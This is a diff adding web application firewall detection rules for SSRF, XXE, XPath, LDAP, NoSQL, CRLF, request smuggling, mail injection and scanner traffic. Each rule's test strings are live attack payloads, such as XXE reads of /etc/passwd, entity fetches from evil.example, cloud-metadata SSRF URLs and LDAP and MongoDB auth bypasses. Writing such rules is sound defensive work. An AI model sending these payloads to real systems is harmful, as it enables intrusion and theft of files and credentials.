@@ -1,0 +1,349 @@
+# SSRF, XXE, XPath, LDAP, NoSQL, CRLF/header injection, request smuggling, mail injection, scanners
+# (ids 300006000-300006999).
+
+id: 300006001
+name: SSRF: URL to a loopback, private or link-local address
+type: Server-Side Request Forgery (SSRF)
+accuracy: medium
+risk: high
+targets: @values, param-name
+literal: ://
+regex: \b(?:https?|gopher|dict|ftp|ftps|ldap|ldaps|tftp|sftp|jar|netdoc|smb|rtsp|ws|wss)://(?:[^/@\s]*@)?(?:localhost\b|127(?:\.\d{1,3}){1,3}\b|0(?:\.0){0,3}(?:[:/]|$)|0x7f[0-9a-f]*|2130706433\b|017700000001\b|0177\.|\[(?:0*:)*:?0*1?\]|\[::(?:ffff:)?[\d.]*\]|\[0:0:0:0:0:(?:ffff:)?[\d.:]*\]|169\.254\.\d{1,3}\.\d{1,3}|10\.\d{1,3}\.\d{1,3}\.\d{1,3}|192\.168\.\d{1,3}\.\d{1,3}|172\.(?:1[6-9]|2\d|3[01])\.\d{1,3}\.\d{1,3}|100\.100\.100\.200|metadata\.google\.internal|metadata\b|instance-data\b|(?:[\w-]+\.)*(?:localtest\.me|nip\.io|xip\.io|sslip\.io|burpcollaborator\.net|oastify\.com|interact\.sh|oast\.\w+)\b|[\w.-]*\.internal\b|[\w-]*kubernetes\.default)
+test: http://169.254.169.254/latest/meta-data/
+test: http://127.0.0.1:8080/admin
+test: gopher://localhost:6379/_FLUSHALL
+pass: https://www.example.com/
+
+id: 300006002
+name: SSRF: dangerous URL schemes
+type: Server-Side Request Forgery (SSRF)
+accuracy: high
+risk: high
+targets: @values, header, param-name
+literal: gopher:
+literal: dict:
+literal: ldap:
+literal: tftp:
+literal: jar:
+literal: netdoc:
+literal: sftp:
+regex: \b(?:gopher|dict|tftp|netdoc)://|\bjar:(?:https?|file|ftp):|^\s*ldaps?://|\bsftp://[^/]*(?:127\.|localhost)
+test: dict://127.0.0.1:11211/stat
+test: jar:http://evil.example/x.jar!/
+pass: a dictionary: words
+
+id: 300006003
+name: SSRF: cloud metadata endpoints
+type: Server-Side Request Forgery (SSRF)
+accuracy: high
+risk: high
+targets: @values, header, url, param-name
+literal: 169.254.169.254
+literal: metadata.google.internal
+literal: 100.100.100.200
+literal: fd00:ec2::254
+literal: latest/meta-data
+literal: computemetadata
+literal: metadata/instance
+literal: 169.254.170.2
+literal: 0xa9fea9fe
+literal: 2852039166
+regex: 169\.254\.169\.254|metadata\.google\.internal|100\.100\.100\.200|fd00:ec2::254|latest/(?:meta-data|user-data|dynamic)|computemetadata/v1|metadata/instance\?|169\.254\.170\.2|0xa9fea9fe|2852039166
+test: http://[fd00:ec2::254]/latest/meta-data/
+pass: latest data
+
+id: 300006004
+name: XXE: external entity declaration
+type: XML External Entities (XXE)
+accuracy: high
+risk: high
+systems: XML
+targets: @values, header, body, xml
+literal: <!entity
+literal: <!doctype
+literal: <!element
+literal: <!attlist
+literal: utf-7
+regex: <\?xml[^>]{0,100}encoding\s*=\s*["']utf-7|<!entity\s+(?:%\s*)?[\w.-]+\s+(?:system|public)\b|<!entity\s+%|<!doctype\s+[\w:.-]+\s+(?:system|public)\s+["']|<!doctype\s+[\w:.-]+\s*\[[\s\S]*<!entity|<!entity\s+[\w.-]+\s+["'][\s\S]*&[\w.-]+;|<!(?:element|attlist)\s+[\w:.-]+\s[\s\S]*<!entity
+test: <!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>
+test: <!ENTITY % dtd SYSTEM "http://evil.example/x.dtd">
+pass: <!DOCTYPE html><html></html>
+
+id: 300006005
+name: XXE: XInclude and schema inclusion
+type: XML External Entities (XXE)
+accuracy: high
+risk: high
+systems: XML
+targets: @values, header, body, xml
+literal: xi:include
+literal: xinclude
+literal: xs:include
+literal: xs:import
+literal: xsl:include
+literal: xsl:import
+literal: schemalocation
+literal: document(
+literal: xsl:
+regex: <\w*:?include\b[^>]*\bhref\s*=|\bxmlns:\w+\s*=\s*["']http://www\.w3\.org/2001/xinclude|<xs:(?:include|import|redefine)\b[^>]*schemalocation\s*=\s*["'](?:https?|file|ftp)|<xsl:(?:include|import)\b[^>]*href|\bdocument\s*\(\s*['"](?:https?|file|ftp|/)|<xsl:value-of\s+select\s*=\s*["']system-property|\bxsl:stylesheet\b[\s\S]*(?:php:function|java:|rt:exec)
+test: <xi:include href="file:///etc/passwd" parse="text"/>
+test: <xs:include schemaLocation="http://evil.example/x.xsd"/>
+pass: <include>yes</include>
+
+id: 300006006
+name: XPath injection
+type: XPath Injection
+accuracy: medium
+risk: medium
+targets: @values, header
+literal: count(
+literal: name(
+literal: string-length
+literal: substring(
+literal: child::
+literal: //
+literal: text()
+literal: position()
+literal: ancestor::
+literal: descendant::
+literal: contains(
+regex: ['"]\s*(?:or|and)\s+(?:count|name|string-length|substring|contains|starts-with|position|last)\s*\(|\bcount\s*\(\s*/|\bname\s*\(\s*/|\b(?:child|ancestor|descendant|parent|following|preceding)(?:-or-self)?::|['"]\s*\]\s*/\s*/|\|\s*//\*|/\*\[\d+\]|//\w+\s*\[\s*\w+\s*=|\btext\s*\(\s*\)\s*=\s*['"]
+test: ' or count(/*)=1 or 'a'='b
+test: x' or name(//users/child::node()[1])='a
+pass: see https://example.com//path
+
+id: 300006007
+name: LDAP injection: filter manipulation
+type: LDAP Injection
+accuracy: medium
+risk: high
+targets: @values, header, param-name
+literal: )(
+literal: *)
+literal: (|
+literal: (&
+literal: (!
+literal: objectclass
+literal: \2a
+literal: \28
+literal: \29
+literal: \00
+literal: :=
+regex: \b[\w-]+(?::dn)?:\d+(?:\.\d+){2,}:=|\)\s*\(\s*[|&!]|\*\s*\)\s*\(|\(\s*[|&!]\s*\(\s*[\w.-]+\s*[~<>]?=|[|&!]\s*\(\s*[\w.-]+\s*=\s*\*\s*\)|\(\s*objectclass\s*=|\)\s*\(\s*(?:cn|uid|mail|userpassword|sn|ou|dc|givenname|samaccountname|objectclass|memberof|description|telephonenumber|homedirectory)\s*[~<>]?=|^\s*\*\s*\)\s*[(|&]|^\*\)|\\(?:2a|28|29|00)[\s\S]*\\(?:2a|28|29|00)|^[\w.@-]*\*\)\s*\(
+test: *)(uid=*))(|(uid=*
+test: admin)(&(password=*)
+test: *)(objectClass=*
+test: userPassword:2.5.13.18:=x
+pass: smile :-) (really)
+
+id: 300006008
+name: NoSQL injection: MongoDB query operators
+type: NoSQL Injection
+accuracy: high
+risk: high
+systems: MongoDB
+targets: @values, header, url, param-name
+literal: $
+regex: (?:^|[\[{,"'\s(])\$(?:ne|eq|gt|gte|lt|lte|in|nin|regex|where|exists|or|and|not|nor|expr|elemmatch|function|accumulator|lookup|size|type|mod|all|text|jsonschema|options|where|group|match|project|merge|out|unionwith|graphlookup)\b\s*(?:["'\]]|:|=|$)
+test: {"username": {"$ne": null}}
+test: [$gt]
+test: ', $or: [ {}, { 'a':'a
+pass: price $10
+
+id: 300006009
+name: NoSQL injection: JavaScript in MongoDB queries
+type: NoSQL Injection
+accuracy: high
+risk: high
+systems: MongoDB
+targets: @values, header, url, param-name
+literal: db.
+literal: this.
+literal: sleep(
+literal: mapreduce
+literal: return
+literal: tojson
+literal: objectid
+literal: isodate
+literal: while
+regex: \bdo\s*\{[\s\S]{0,200}\}\s*while\s*\(|\bwhile\s*\(\s*(?:true|1|\w+\s*-\s*\w+\s*<)|\bdb\s*\.\s*(?:\w+\s*\.\s*)?(?:find|findone|insert|update|remove|drop|getcollection|getcollectionnames|eval|runcommand|aggregate|count|distinct|mapreduce|getsiblingdb|adminCommand|createuser|dropdatabase)\w*\s*\(|\bthis\s*\.\s*\w+\s*(?:==|!=|\.match\s*\(|\.constructor|\.length\s*[<>=])|['"]\s*;\s*(?:sleep\s*\(\s*\d|return\s+(?:true|1|this)|while\s*\(|var\s+\w+\s*=)|\bmapreduce\b|\btojson\s*\(\s*this|;\s*return\s+['"]?\w*['"]?\s*==\s*['"]|\b(?:objectid|isodate)\s*\(\s*['"][\s\S]*\)\s*(?:\}|,)[\s\S]*\$
+test: db.users.find()
+test: '; return true; var x='
+test: this.password.match(/.*/)
+pass: return to sender
+
+id: 300006010
+name: CRLF injection: header injected after a line break
+type: HTTP Response Splitting
+accuracy: high
+risk: high
+targets: @values, url, header, param-name
+literal: \n
+literal: \r
+literal: %0a
+literal: %0d
+literal: %e5%98%8a
+literal: \u560a
+literal: set-cookie
+literal: location
+regex: (?:[\r\n]|%0[ad]|%e5%98%8[ad]|\xe5\x98[\x8a\x8d]|\\u560[ad]|\\r|\\n)+\s*(?:set-cookie|location|content-(?:type|length|disposition|security-policy|encoding)|x-[\w-]+|refresh|access-control-[\w-]+|http/\d|transfer-encoding|link|host|cookie|status|x-xss-protection|cache-control|connection|server|etag|last-modified|expires|vary|upgrade|authorization|www-authenticate)\s*:|(?:[\r\n]|%0[ad])+\s*(?:<\s*(?:html|script|body|svg|img)|http/1\.[01]\s+\d{3})
+test: x\r\nSet-Cookie: a=b
+test: /%0d%0aLocation: http://evil.example
+pass: line one\nline two
+
+id: 300006011
+name: HTTP request smuggling: request embedded in a request
+type: HTTP Request Smuggling Attack
+accuracy: high
+risk: high
+targets: @values, header, body, url
+literal: http/1
+literal: transfer-encoding
+literal: content-length
+regex: (?:^|[\r\n])\s*(?:get|post|put|delete|head|options|patch|trace|connect|propfind)\s+(?:/|https?://)\S*\s+http/1\.[01]\s*[\r\n]|[\r\n]\s*transfer-encoding\s*:|[\r\n]\s*content-length\s*:\s*\d|^\s*(?:\w+\s*,\s*)*chunked\s*,|\bchunked\s*[\x00-\x08\x0b\x0c\x0e-\x1f]|x?chunked\w
+test: 0\r\n\r\nGET /admin HTTP/1.1\r\nHost: x\r\n
+test: x\r\nTransfer-Encoding: chunked
+pass: see HTTP/1.1 RFC
+
+id: 300006012
+name: Mail command injection: SMTP/IMAP/POP3 commands after a line break
+type: Mail Command Injection
+accuracy: high
+risk: high
+targets: @values, header, url, param-name
+literal: \n
+literal: \r
+literal: %0a
+literal: %0d
+regex: (?:[\r\n]|%0[ad])+\s*(?:(?:rcpt\s+to|mail\s+from|helo|ehlo|data|quit|rset|vrfy|expn|noop|auth\s+\w+|starttls|turn)\b|(?:bcc|cc|to|from|subject|reply-to|sender|return-path|mime-version|content-transfer-encoding|x-mailer)\s*:|[\w.-]*\s+(?:capability|login|logout|select|examine|fetch|store|copy|search|uid|list|lsub|status|append|create|delete|rename|subscribe|noop|authenticate|starttls|check|close|expunge)\b|(?:user|pass|stat|retr|dele|top|uidl|apop)\s+\S)
+test: \r\nRCPT TO: <x@evil.example>
+test: x@example.com\nBcc: victim@example.com
+test: \r\nA001 LOGIN user pass
+pass: regards\nBob
+
+id: 300006013
+name: Vulnerability scanner: user agent
+type: Vulnerability Scan
+accuracy: high
+risk: low
+targets: header
+literal: sqlmap
+literal: nikto
+literal: nmap
+literal: acunetix
+literal: nessus
+literal: openvas
+literal: w3af
+literal: dirbuster
+literal: gobuster
+literal: wfuzz
+literal: masscan
+literal: zgrab
+literal: nuclei
+literal: havij
+literal: netsparker
+literal: appscan
+literal: webinspect
+literal: jaeles
+literal: ffuf
+literal: feroxbuster
+literal: whatweb
+literal: wpscan
+literal: joomscan
+literal: commix
+literal: xsser
+literal: burp
+literal: arachni
+literal: skipfish
+literal: vega
+literal: paros
+literal: zap
+literal: qualys
+literal: fimap
+literal: dirb
+literal: brutus
+literal: hydra
+literal: morfeus
+literal: zmeu
+literal: grabber
+literal: pangolin
+literal: bsqlbf
+literal: sqlninja
+literal: jbrofuzz
+literal: webshag
+literal: wapiti
+literal: detectify
+literal: interactsh
+literal: oast.
+literal: oastify
+literal: dnslog
+literal: ceye.io
+literal: winrm
+regex: \b(?:sqlmap|nikto|nmap\s+scripting|nmap|acunetix|nessus|openvas\w*|w3af|dirbuster|gobuster|wfuzz|masscan|zgrab|nuclei|havij|netsparker|appscan|webinspect|jaeles|ffuf|feroxbuster|whatweb|wpscan|joomscan|commix|xsser|burp(?:suite|collaborator)?|arachni|skipfish|vega/|paros|owasp\s*zap|zap/|qualys|fimap|dirb\b|brutus|hydra|morfeus|zmeu|grabber|pangolin|bsqlbf|sqlninja|jbrofuzz|webshag|wapiti|detectify|interactsh|oastify|dnslog|ceye\.io)|\.oast\.(?:me|fun|live|site|online|pro)\b|microsoft winrm client
+test: sqlmap/1.7.2#stable (https://sqlmap.org)
+test: Mozilla/5.00 (Nikto/2.1.6)
+pass: Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0
+
+id: 300006014
+name: Out-of-band interaction domains
+type: Vulnerability Scan
+accuracy: high
+risk: medium
+targets: @all
+literal: oast
+literal: burpcollaborator
+literal: interact.sh
+literal: dnslog
+literal: ceye.io
+literal: requestbin
+literal: pipedream
+literal: canarytokens
+literal: xss.ht
+literal: bxss
+regex: \b[\w-]+\.(?:oast\.(?:me|fun|live|site|online|pro)|oastify\.com|burpcollaborator\.net|interact\.sh|dnslog\.cn|ceye\.io|requestbin\.net|canarytokens\.com|xss\.ht)\b|\bbxss\.me\b|\bpipedream\.net\b
+test: x.c6roi3.oast.fun
+pass: toast.me is fine
+
+id: 300006015
+name: Vulnerability scan: probe for admin and debug interfaces
+type: Predictable Resource Location
+accuracy: medium
+risk: low
+targets: url
+literal: phpmyadmin
+literal: /cgi-bin/
+literal: /actuator
+literal: /server-status
+literal: /.well-known/
+literal: /console
+literal: /manager/html
+literal: /jmx-console
+literal: /invoker/
+literal: /solr/admin
+literal: /_ignition
+literal: /telescope
+literal: /debug/
+literal: phpinfo.php
+literal: /xmlrpc.php
+literal: /wls-wsat
+literal: /hnap1
+literal: /boaform
+literal: /vendor/phpunit
+regex: /phpmyadmin|/cgi-bin/[\w.-]*\.(?:sh|pl|cgi|bat|exe)\b|/actuator(?:/|$)(?:env|heapdump|jolokia|gateway|mappings|trace|logfile)?|/server-status\b|/manager/html\b|/jmx-console\b|/invoker/(?:jmx|ejb)|/solr/admin/|/_ignition/|/debug/(?:pprof|vars|default)|/phpinfo\.php|/wls-wsat/|/hnap1\b|/boaform/|/vendor/phpunit/|/console/(?:login|css|j_security)
+test: /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
+test: /cgi-bin/test.sh
+pass: /products/console-tables
+
+id: 300006016
+name: GraphQL introspection query
+type: Information Leakage
+accuracy: high
+risk: low
+targets: @values, header, url, param-name
+literal: __schema
+literal: introspectionquery
+literal: __type
+regex: \b__schema\s*\{|\bintrospectionquery\b|\b__type\s*\(\s*name\s*:
+test: {"query":"{__schema{types{name}}}"}
+test: query IntrospectionQuery { x }
+pass: schema version 2
